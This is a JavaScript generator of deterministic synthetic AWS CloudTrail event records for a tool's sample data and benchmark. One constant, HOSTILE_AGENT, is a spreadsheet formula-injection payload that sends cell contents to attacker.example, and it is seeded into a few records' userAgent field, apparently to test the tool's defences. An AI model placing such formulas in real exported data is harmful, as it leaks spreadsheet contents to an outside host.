// Deterministic synthetic CloudTrail events in LookupEvents item shape, for the bundled sample
// (scripts/make-sample.mjs) and the benchmark (scripts/bench.mjs). Same seed, same bytes.
import { createRequire } from 'node:module';

const require = createRequire(import.meta.url);
/** The project's seeded generator (src/common/random.ts, built by npm ci). */
export const rng = require('../../dist/common/random.js').seededRandom;
/** A record as event history shows it: ct-serve's own rule (src/serve/event-store.ts). */
const { toLookupItem } = require('../../dist/serve/event-store.js');

const ACCOUNT = '123456789012';
const USERS = ['alice', 'bob', 'carol', 'deploy-bot', '田中太郎', 'José', 'Zoë'];
const ROLES = ['Admin', 'ReadOnly', 'ci-deployer', 'incident-responder'];
const REGIONS = ['us-east-1', 'us-west-2', 'eu-west-1', 'ap-northeast-1'];
const AGENTS = [
  'aws-cli/2.15.30 Python/3.11.8 Linux/6.1.0 exe/x86_64.debian.12 prompt/off command/ec2.describe-instances',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36',
  'Boto3/1.34.100 md/Botocore#1.34.100 ua/2.0 os/linux#6.1.0 md/arch#x86_64 lang/python#3.11.8',
  'aws-sdk-go-v2/1.30.3 os/linux lang/go#1.22.5 md/GOOS#linux md/GOARCH#amd64 api/ec2#1.171.0',
];
const HOSTILE_AGENT = '=HYPERLINK("http://attacker.example/x?d="&A1,"Click for details")';
const BROWSER = AGENTS[1];
const ALIAS = 'example-corp';
/** Services whose events event history keeps in us-east-1 only (since 22 November 2021). */
const US_EAST_1 = 'us-east-1';

const pick = (r, list) => list[Math.floor(r() * list.length)];
const hex = (r, n) => Array.from({ length: n }, () => Math.floor(r() * 16).toString(16)).join('');
const uuid = (r) => `${hex(r, 8)}-${hex(r, 4)}-4${hex(r, 3)}-a${hex(r, 3)}-${hex(r, 12)}`;
const keyId = (r, prefix) => prefix + Array.from({ length: 16 }, () => 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567'[Math.floor(r() * 32)]).join('');
const day = (time) => `${time.slice(0, 10)}T00:00:00Z`;

/** Where people call from: documentation address blocks, IPv4 and IPv6. */
function address(r) {
  const x = r();
  if (x < 0.5) return `203.0.113.${Math.floor(r() * 254) + 1}`;
  if (x < 0.85) return `198.51.100.${Math.floor(r() * 254) + 1}`;
  return `2001:db8:${hex(r, 4)}::${hex(r, 2)}`;
}

/** An IAM user or a role session; `withKey` false for console sign-in (no access key yet). */
function person(r, time, withKey = true) {
  if (r() < 0.5) {
    const name = pick(r, USERS);
    const userIdentity = { type: 'IAMUser', principalId: `AIDA${keyId(r, '').slice(0, 17)}`, arn: `arn:aws:iam::${ACCOUNT}:user/${name}`, accountId: ACCOUNT };
    if (withKey) userIdentity.accessKeyId = keyId(r, 'AKIA');
    userIdentity.userName = name;
    return userIdentity;
  }
  const role = pick(r, ROLES);
  const session = pick(r, USERS);
  const roleId = `AROA${keyId(r, '').slice(0, 17)}`;
  return {
    type: 'AssumedRole', principalId: `${roleId}:${session}`, arn: `arn:aws:sts::${ACCOUNT}:assumed-role/${role}/${session}`,
    accountId: ACCOUNT, accessKeyId: keyId(r, 'ASIA'),
    sessionContext: {
      sessionIssuer: { type: 'Role', principalId: roleId, arn: `arn:aws:iam::${ACCOUNT}:role/${role}`, accountId: ACCOUNT, userName: role },
      attributes: { creationDate: day(time), mfaAuthenticated: 'false' },
    },
  };
}

/** The account's root user; real records often carry the account alias as userName. */
function root(r) {
  const id = { type: 'Root', principalId: ACCOUNT, arn: `arn:aws:iam::${ACCOUNT}:root`, accountId: ACCOUNT };
  if (r() < 0.5) id.userName = ALIAS;
  return id;
}

const instanceId = (r) => `i-0${hex(r, 16)}`;
const groupId = (r) => `sg-0${hex(r, 16)}`;
const bucketName = (r) => pick(r, ['prod-logs', 'customer-uploads', 'データ-bucket', 'cdk-assets-123456789012']);

/**
 * The management calls of the sample, each with what real records of it hold: request
 * parameters, response elements and `resources[]` where CloudTrail writes one (items' Resources
 * come from the call, as ct-serve derives them). `global`: IAM, the global STS endpoint: recorded
 * in us-east-1.
 */
const CALLS = [
  { source: 'ec2.amazonaws.com', name: 'DescribeInstances', readOnly: true, make: () => ({
    requestParameters: { instancesSet: {}, filterSet: { items: [{ name: 'instance-state-name', valueSet: { items: [{ value: 'running' }] } }] } } }) },
  { source: 'ec2.amazonaws.com', name: 'RunInstances', readOnly: false, make: (r) => {
    const id = instanceId(r);
    const image = `ami-0${hex(r, 16)}`;
    return {
      requestParameters: { instancesSet: { items: [{ imageId: image, minCount: 1, maxCount: 1 }] }, instanceType: 't3.micro', blockDeviceMapping: {}, monitoring: { enabled: false }, disableApiTermination: false, disableApiStop: false, clientToken: uuid(r) },
      responseElements: { requestId: uuid(r), reservationId: `r-0${hex(r, 16)}`, ownerId: ACCOUNT, groupSet: {}, instancesSet: { items: [{ instanceId: id, imageId: image, instanceState: { code: 0, name: 'pending' }, instanceType: 't3.micro', launchTime: 0 }] } },
    };
  } },
  { source: 'ec2.amazonaws.com', name: 'DescribeSecurityGroups', readOnly: true, make: () => ({ requestParameters: { securityGroupSet: {}, securityGroupIdSet: {}, filterSet: {} } }) },
  { source: 'ec2.amazonaws.com', name: 'AuthorizeSecurityGroupIngress', readOnly: false, make: (r) => {
    const group = groupId(r);
    const rule = { ipProtocol: 'tcp', fromPort: 22, toPort: 22, ipRanges: { items: [{ cidrIp: '0.0.0.0/0' }] } };
    return {
      requestParameters: { groupId: group, ipPermissions: { items: [rule] } },
      responseElements: { requestId: uuid(r), _return: true, securityGroupRuleSet: { items: [{ groupOwnerId: ACCOUNT, groupId: group, securityGroupRuleId: `sgr-0${hex(r, 16)}`, isEgress: false, ipProtocol: 'tcp', fromPort: 22, toPort: 22, cidrIpv4: '0.0.0.0/0' }] } },
    };
  } },
  { source: 's3.amazonaws.com', name: 'ListBuckets', readOnly: true, make: () => ({ requestParameters: { Host: 's3.amazonaws.com' } }) },
  { source: 's3.amazonaws.com', name: 'GetBucketPublicAccessBlock', readOnly: true, make: (r) => {
    const bucket = bucketName(r);
    return { requestParameters: { publicAccessBlock: '', bucketName: bucket, Host: `${bucket}.s3.amazonaws.com` }, resources: [{ accountId: ACCOUNT, type: 'AWS::S3::Bucket', ARN: `arn:aws:s3:::${bucket}` }] };
  } },
  { source: 's3.amazonaws.com', name: 'PutBucketPolicy', readOnly: false, make: (r) => {
    const bucket = bucketName(r);
    const policy = { Version: '2012-10-17', Statement: [{ Effect: 'Allow', Principal: { AWS: `arn:aws:iam::${ACCOUNT}:root` }, Action: 's3:GetObject', Resource: `arn:aws:s3:::${bucket}/*` }] };
    return { requestParameters: { bucketPolicy: policy, bucketName: bucket, Host: `${bucket}.s3.amazonaws.com`, policy: '' }, resources: [{ accountId: ACCOUNT, type: 'AWS::S3::Bucket', ARN: `arn:aws:s3:::${bucket}` }] };
  } },
  { source: 'iam.amazonaws.com', name: 'ListUsers', readOnly: true, global: true, make: () => ({ requestParameters: null }) },
  { source: 'iam.amazonaws.com', name: 'CreateAccessKey', readOnly: false, global: true, make: (r, time) => {
    const user = pick(r, USERS);
    const key = keyId(r, 'AKIA');
    return {
      requestParameters: { userName: user },
      responseElements: { accessKey: { userName: user, accessKeyId: key, status: 'Active', createDate: new Date(time).toUTCString().replace('GMT', 'UTC') } },
    };
  } },
  { source: 'iam.amazonaws.com', name: 'CreateUser', readOnly: false, global: true, make: (r, time) => {
    const user = pick(r, ['contractor-1', 'audit-reader', 'ci-legacy', 'Zoë.temp']);
    return {
      requestParameters: { userName: user },
      responseElements: { user: { path: '/', userName: user, userId: `AIDA${keyId(r, '').slice(0, 17)}`, arn: `arn:aws:iam::${ACCOUNT}:user/${user}`, createDate: new Date(time).toUTCString().replace('GMT', 'UTC') } },
    };
  } },
  { source: 'lambda.amazonaws.com', name: 'ListFunctions20150331', readOnly: true, make: () => ({ requestParameters: null }) },
  { source: 'kms.amazonaws.com', name: 'Decrypt', readOnly: true, make: (r) => ({
    requestParameters: { encryptionAlgorithm: 'SYMMETRIC_DEFAULT', encryptionContext: { SecretARN: `arn:aws:secretsmanager:us-east-1:${ACCOUNT}:secret:prod/db-${hex(r, 6)}` } },
    resources: [{ accountId: ACCOUNT, type: 'AWS::KMS::Key', ARN: `arn:aws:kms:us-east-1:${ACCOUNT}:key/${uuid(r)}` }],
  }) },
  { source: 'cloudtrail.amazonaws.com', name: 'LookupEvents', readOnly: true, make: () => ({ requestParameters: { maxResults: 50 } }) },
  { source: 'monitoring.amazonaws.com', name: 'GetMetricData', readOnly: true, make: (r, time) => ({
    requestParameters: { metricDataQueries: [{ id: 'cpu', metricStat: { metric: { namespace: 'AWS/EC2', metricName: 'CPUUtilization', dimensions: [{ name: 'InstanceId', value: instanceId(r) }] }, period: 300, stat: 'Average' } }], startTime: day(time), endTime: time } }) },
  { source: 'sts.amazonaws.com', name: 'GetCallerIdentity', readOnly: true, make: () => ({ requestParameters: null }) },
];

/** One record; the kinds the cookbook shows are made often enough to find. */
function record(r, time) {
  const x = r();
  const base = {
    eventVersion: '1.09', userIdentity: null, eventTime: time, eventSource: '', eventName: '', awsRegion: pick(r, REGIONS),
    sourceIPAddress: address(r), userAgent: r() < 0.004 ? HOSTILE_AGENT : pick(r, AGENTS),
  };
  const ids = { requestID: uuid(r), eventID: uuid(r) };
  const tail = (extra = {}) => ({ ...ids, readOnly: undefined, eventType: 'AwsApiCall', managementEvent: true, recipientAccountId: ACCOUNT, eventCategory: 'Management', ...extra });
  if (x < 0.04) return signIn(r, base, ids, time, 'ConsoleLogin');
  if (x < 0.06) return signIn(r, base, ids, time, 'SwitchRole');
  if (x < 0.12) return assumeRole(r, base, tail(), time);
  if (x < 0.14) return serviceDecrypt(r, base, tail());
  const call = pick(r, CALLS);
  const made = call.make(r, time);
  const who = r() < 0.01 ? root(r) : person(r, time);
  const rec = {
    ...base, userIdentity: who, eventSource: call.source, eventName: call.name, awsRegion: call.global ? US_EAST_1 : base.awsRegion,
    requestParameters: made.requestParameters ?? null, responseElements: made.responseElements ?? null, ...tail({ readOnly: call.readOnly }),
  };
  if (made.resources) rec.resources = made.resources;
  rec.tlsDetails = { tlsVersion: 'TLSv1.3', cipherSuite: 'TLS_AES_128_GCM_SHA256', clientProvidedHostHeader: host(call.source, rec.awsRegion, call.global) };
  const e = r();
  if (e < 0.025) Object.assign(rec, { errorCode: 'AccessDenied', errorMessage: `User: ${who.arn} is not authorized to perform: ${call.source.split('.')[0]}:${call.name} because no identity-based policy allows it` });
  else if (e < 0.035 && call.source === 'ec2.amazonaws.com') Object.assign(rec, { errorCode: 'Client.UnauthorizedOperation', errorMessage: 'You are not authorized to perform this operation.' });
  else if (e < 0.045) Object.assign(rec, { errorCode: 'ThrottlingException', errorMessage: 'Rate exceeded' });
  if (rec.errorCode) {
    rec.responseElements = null;
    delete rec.resources;
  }
  // Older records (eventVersion 1.05, before 2019): no eventCategory, managementEvent or tlsDetails.
  if (r() < 0.03) {
    rec.eventVersion = '1.05';
    for (const key of ['eventCategory', 'managementEvent', 'tlsDetails']) delete rec[key];
  }
  return { rec: ordered(rec) };
}

function host(source, region, global) {
  const service = source.split('.')[0];
  return global ? `${service}.amazonaws.com` : `${service === 'monitoring' ? 'monitoring' : service}.${region}.amazonaws.com`;
}

const KEY_ORDER = ['eventVersion', 'userIdentity', 'eventTime', 'eventSource', 'eventName', 'awsRegion', 'sourceIPAddress', 'userAgent',
  'errorCode', 'errorMessage', 'requestParameters', 'responseElements', 'additionalEventData', 'requestID', 'eventID', 'readOnly',
  'resources', 'eventType', 'managementEvent', 'recipientAccountId', 'sharedEventID', 'eventCategory', 'tlsDetails'];

/** Keys in the order CloudTrail writes them; fields left undefined are dropped. */
function ordered(rec) {
  const out = {};
  for (const key of KEY_ORDER) if (rec[key] !== undefined) out[key] = rec[key];
  return out;
}

/** Console sign-in: us-east-1, a browser, no access key; failures carry no errorCode. */
function signIn(r, base, ids, time, name) {
  const failed = r() < 0.35;
  const who = name === 'ConsoleLogin' && r() < 0.1 ? root(r) : person(r, time, false);
  delete who.accessKeyId;
  const rec = {
    ...base, userIdentity: who, eventSource: 'signin.amazonaws.com', eventName: name, awsRegion: US_EAST_1, userAgent: BROWSER,
    requestParameters: null, responseElements: { [name]: failed ? 'Failure' : 'Success' },
    additionalEventData: name === 'ConsoleLogin'
      ? { LoginTo: 'https://console.aws.amazon.com/console/home?state=hashArgs%23&isauthcode=true', MobileVersion: 'No', MFAUsed: who.type === 'Root' ? 'Yes' : 'No' }
      : { SwitchFrom: who.arn, RedirectTo: 'https://console.aws.amazon.com/' },
    ...ids, eventType: 'AwsConsoleSignIn', managementEvent: true, recipientAccountId: ACCOUNT, eventCategory: 'Management',
  };
  rec.readOnly = false;
  if (failed && name === 'ConsoleLogin') rec.errorMessage = 'Failed authentication';
  return { rec: ordered(rec) };
}

/** AssumeRole through the global STS endpoint (us-east-1); resources[] names the role. */
function assumeRole(r, base, tail, time) {
  const role = pick(r, ROLES);
  const session = pick(r, USERS);
  const roleArn = `arn:aws:iam::${ACCOUNT}:role/${role}`;
  const rec = {
    ...base, userIdentity: person(r, time), eventSource: 'sts.amazonaws.com', eventName: 'AssumeRole', awsRegion: US_EAST_1,
    requestParameters: { roleArn, roleSessionName: session, durationSeconds: 3600 },
    responseElements: { credentials: { accessKeyId: keyId(r, 'ASIA'), sessionToken: 'IQoJb3JpZ2luX2VjEXAMPLE', expiration: 'Jul 22, 2024, 1:00:00 PM' }, assumedRoleUser: { assumedRoleId: `AROA${keyId(r, '').slice(0, 17)}:${session}`, arn: `arn:aws:sts::${ACCOUNT}:assumed-role/${role}/${session}` } },
    ...tail, readOnly: true,
    resources: [{ accountId: ACCOUNT, type: 'AWS::IAM::Role', ARN: roleArn }],
    tlsDetails: { tlsVersion: 'TLSv1.3', cipherSuite: 'TLS_AES_128_GCM_SHA256', clientProvidedHostHeader: 'sts.amazonaws.com' },
  };
  return { rec: ordered(rec) };
}

/** A service decrypting for itself: AWSService identity, the service as source, no Username, no Resources. */
function serviceDecrypt(r, base, tail) {
  const service = pick(r, ['secretsmanager.amazonaws.com', 'lambda.amazonaws.com', 'ssm.amazonaws.com']);
  const rec = {
    ...base, userIdentity: { type: 'AWSService', invokedBy: service }, eventSource: 'kms.amazonaws.com', eventName: 'Decrypt',
    sourceIPAddress: service, userAgent: service,
    requestParameters: { encryptionAlgorithm: 'SYMMETRIC_DEFAULT', encryptionContext: { 'aws:lambda:FunctionArn': `arn:aws:lambda:${base.awsRegion}:${ACCOUNT}:function:ingest` } },
    responseElements: null, ...tail, readOnly: true, eventType: 'AwsServiceEvent',
    resources: [{ accountId: ACCOUNT, type: 'AWS::KMS::Key', ARN: `arn:aws:kms:${base.awsRegion}:${ACCOUNT}:key/${uuid(r)}` }],
    sharedEventID: uuid(r),
  };
  return { rec: ordered(rec) };
}

/** A LookupEvents item as `ct-fetch` writes it: Username, Resources as ct-serve derives them. */
export function lookupItem(r, time) {
  return toLookupItem(record(r, time).rec);
}

/** `count` NDJSON lines, newest first, one event every `stepSeconds` back from `end`. */
export function* lookupLines(seed, count, end = Date.parse('2024-07-23T12:00:00Z'), stepSeconds = 37) {
  const r = rng(seed);
  for (let i = 0; i < count; i++) {
    const time = new Date(end - i * stepSeconds * 1000).toISOString().replace('.000Z', 'Z');
    yield `${JSON.stringify(lookupItem(r, time))}\n`;
  }
}
